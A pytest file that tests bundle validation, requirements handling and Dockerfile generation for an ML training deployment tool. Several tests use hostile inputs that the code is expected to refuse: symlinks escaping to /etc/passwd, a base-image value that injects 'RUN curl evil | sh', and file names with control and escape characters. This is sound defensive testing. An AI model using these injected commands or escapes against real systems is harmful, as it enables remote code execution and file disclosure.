"""Bundle validation: every bad layout is a clear error raised before anything reaches the store."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from tests.conftest import REPO, store_keys
from trainyard import contract
from trainyard.bundles import DataBundle, SourceBundle, default_dockerfile, deploy_bundle, dockerfile_context
from trainyard.errors import BundleError, ConfigError
from trainyard.store import open_store

MNIST = REPO / "templates" / "mnist"
KAOS = REPO / "tests" / "fixtures" / "kaos-layout" / "model-train"
AICENTER = REPO / "tests" / "fixtures" / "aicenter-package" / "model-train"


@pytest.fixture
def source(tmp_path) -> Path:
    dest = tmp_path / "model-train"
    shutil.copytree(MNIST / "model-train", dest)
    return dest


def test_mnist_source_bundle_is_found_below_the_bundle_folder(source):
    bundle = SourceBundle.load(source)
    assert bundle.name == "mnist"
    assert {"Dockerfile", "model/train", "model/params.json", "requirements.txt"} <= set(bundle.files)


def test_data_repo_is_named_after_its_single_top_folder():
    bundle = DataBundle.load(MNIST / "data")
    assert bundle.name == "features"
    assert "features/training/training.csv" in bundle.files


@pytest.mark.parametrize(
    ("breakage", "message"),
    [
        (lambda root: (root / "mnist/model/train").unlink(), "has no model/train script"),
        (lambda root: os.symlink("/etc/passwd", root / "mnist/model/secret"), "points outside the bundle"),
        (lambda root: (root / "mnist/model/params.json").write_text("{not json"), "is not valid JSON"),
    ],
    ids=["missing-train", "symlink-escape", "bad-params"],
)
def test_bad_source_bundles_fail_clearly_and_store_nothing(source, tmp_path, breakage, message):
    store = open_store(f"file://{tmp_path / 'store'}")
    store.put_blob_bytes(b"already here")
    before = store_keys(store)
    breakage(source)
    with pytest.raises(BundleError, match=message):
        deploy_bundle(store, SourceBundle.load(source))
    assert store_keys(store) == before


def test_empty_bundles_are_rejected(tmp_path):
    (tmp_path / "empty-src" / "mnist").mkdir(parents=True)
    with pytest.raises(BundleError, match="is empty"):
        SourceBundle.load(tmp_path / "empty-src")
    (tmp_path / "empty-data").mkdir()
    with pytest.raises(BundleError, match="data bundle .* is empty"):
        DataBundle.load(tmp_path / "empty-data")


def test_links_inside_the_bundle_are_kept_as_their_content(source):
    os.symlink("params.json", source / "mnist/model/defaults.json")
    bundle = SourceBundle.load(source)
    assert bundle.files["model/defaults.json"].read_bytes() == (source / "mnist/model/params.json").read_bytes()


def _manifest(bundle: SourceBundle) -> dict:
    return {path: {"sha256": contract.sha256_bytes(file.read_bytes()), "size": file.stat().st_size}
            for path, file in bundle.files.items()}


def test_a_bundle_without_a_dockerfile_is_accepted(source):
    (source / "mnist/Dockerfile").unlink()  # the local runner needs none; Kubernetes builds default_dockerfile()
    assert "Dockerfile" not in SourceBundle.load(source).files
    package = SourceBundle.load(AICENTER)  # AI Center: main.py, train.py, requirements.txt
    assert package.name == "irises" and package.entrypoint == "train.py"


def test_a_package_folder_given_directly_is_not_mistaken_for_its_only_subfolder(tmp_path):
    package = tmp_path / "sentiment"
    shutil.copytree(AICENTER / "irises", package)
    (package / "helpers").mkdir()
    (package / "helpers" / "text.py").write_text("")
    bundle = SourceBundle.load(package)
    assert bundle.name == "sentiment" and {"train.py", "helpers/text.py"} <= set(bundle.files)


def test_kaos_requirements_in_model_are_the_environment():
    bundle = SourceBundle.load(KAOS)
    assert bundle.name == "tumours" and "requirements.txt" not in bundle.files
    manifest = _manifest(bundle)
    assert contract.requirements_path(manifest) == "model/requirements.txt"
    wanted = (KAOS / "tumours/model/requirements.txt").read_bytes()
    assert contract.requirements_sha(manifest) == contract.sha256_bytes(wanted)


def test_identical_requirements_in_both_places_are_one_environment_and_different_ones_an_error(tmp_path):
    src = tmp_path / "model-train"
    shutil.copytree(KAOS, src)
    kept = (src / "tumours/model/requirements.txt").read_bytes()
    (src / "tumours/requirements.txt").write_bytes(kept)
    manifest = _manifest(SourceBundle.load(src))
    assert contract.requirements_sha(manifest) == contract.sha256_bytes(kept)

    (src / "tumours/requirements.txt").write_bytes(kept + b"numpy<2\n")
    with pytest.raises(BundleError, match=r"has both requirements.txt and model/requirements.txt and they differ.*"
                                          r"remove one \(kaos keeps it in model/requirements.txt\)"):
        SourceBundle.load(src)
    manifest["requirements.txt"] = {"sha256": contract.sha256_bytes(b"other"), "size": 5}
    with pytest.raises(BundleError, match="they differ"):  # a commit made before deploy refused it: build says so
        contract.requirements_sha(manifest)


def test_default_dockerfile_for_a_kaos_bundle_installs_model_requirements_and_works_in_model():
    text = default_dockerfile(_manifest(SourceBundle.load(KAOS)), base_image="registry.local:5000/python:3.11")
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert lines == [
        "FROM registry.local:5000/python:3.11",
        "ENV PYTHONUNBUFFERED=1 PIP_DISABLE_PIP_VERSION_CHECK=1",
        "COPY model/requirements.txt /tmp/trainyard/requirements.txt",
        "RUN pip install --no-cache-dir -r /tmp/trainyard/requirements.txt",
        "COPY . /opt/program",
        "RUN chmod +x /opt/program/model/train",
        "WORKDIR /opt/program/model",
    ]


def test_default_dockerfile_without_requirements_and_with_a_bad_base():
    manifest = {"train.py": {"sha256": "0" * 64, "size": 1}}
    text = default_dockerfile(manifest, base_image="python:3.12-slim")
    assert "pip install" not in text and text.rstrip().endswith("WORKDIR /opt/program")
    for bad in ("", "python:3.11\nRUN curl evil | sh", "python 3.11"):
        with pytest.raises(ConfigError, match="default_base_image .* is not an image reference"):
            default_dockerfile(manifest, base_image=bad)


@pytest.mark.parametrize(("bundle", "context"), [
    (KAOS, "model"),  # kaos: docker build -f <name>/Dockerfile <name>/model
    (MNIST / "model-train", ""),  # COPY requirements.txt, COPY model /model: the bundle root
    (REPO / "templates/aicenter-sample/model-train", ""),
    (REPO / "templates/lstm/model-train", ""),
])
def test_the_build_context_a_bundles_own_dockerfile_expects(bundle, context):
    loaded = SourceBundle.load(bundle)
    assert dockerfile_context(_manifest(loaded), loaded.files["Dockerfile"].read_text()) == context


def test_build_context_reads_json_form_continuations_and_skips_other_stages():
    manifest = {"model/train": {}, "model/utils.py": {}, "model/requirements.txt": {}, "Dockerfile": {}}
    assert dockerfile_context(manifest, 'FROM x\nCOPY ["utils.py", "train", "/opt/"]\n') == "model"
    assert dockerfile_context(manifest, "FROM x\nCOPY --chown=1:1 \\\n  utils.py /opt/\n") == "model"
    assert dockerfile_context(manifest, "FROM x\nCOPY --from=steps /opt/lib /opt/lib\nCOPY model /m\n") == ""
    assert dockerfile_context({"train.py": {}}, "FROM x\nCOPY . /p\n") == ""


@pytest.mark.parametrize("name", ["bad\nname.csv", "tab\there.csv", "esc\x1b[31m.csv", "c1\x85.csv", b"\xff.csv"],
                         ids=["newline", "tab", "escape", "c1-control", "not-utf8"])
def test_a_file_name_with_a_control_character_is_refused_before_anything_is_stored(tmp_path, name):
    data = tmp_path / "data" / "features"
    data.mkdir(parents=True)
    (data / "good.csv").write_text("1\n")
    os.close(os.open(os.fsencode(data) + b"/" + (name if isinstance(name, bytes) else name.encode()),
                     os.O_CREAT | os.O_WRONLY))
    store = open_store(f"file://{tmp_path / 'store'}")
    with pytest.raises(BundleError) as raised:
        deploy_bundle(store, DataBundle.load(tmp_path / "data"))
    message = str(raised.value)
    assert "\n" not in message and "rename it" in message
    if isinstance(name, str):
        assert repr(f"features/{name}") in message
    assert store_keys(store) == set()


def test_links_inside_the_bundle_are_kept_and_links_out_of_it_refused(tmp_path):
    data = tmp_path / "data" / "features"
    data.mkdir(parents=True)
    (data / "a.csv").write_text("1\n")
    os.symlink("a.csv", data / "b.csv")
    assert sorted(DataBundle.load(tmp_path / "data").files) == ["features/a.csv", "features/b.csv"]
    os.symlink("/etc/passwd", data / "passwd.csv")
    with pytest.raises(BundleError, match=r"symlink features/passwd.csv -> /etc/passwd points outside the bundle"):
        DataBundle.load(tmp_path / "data")
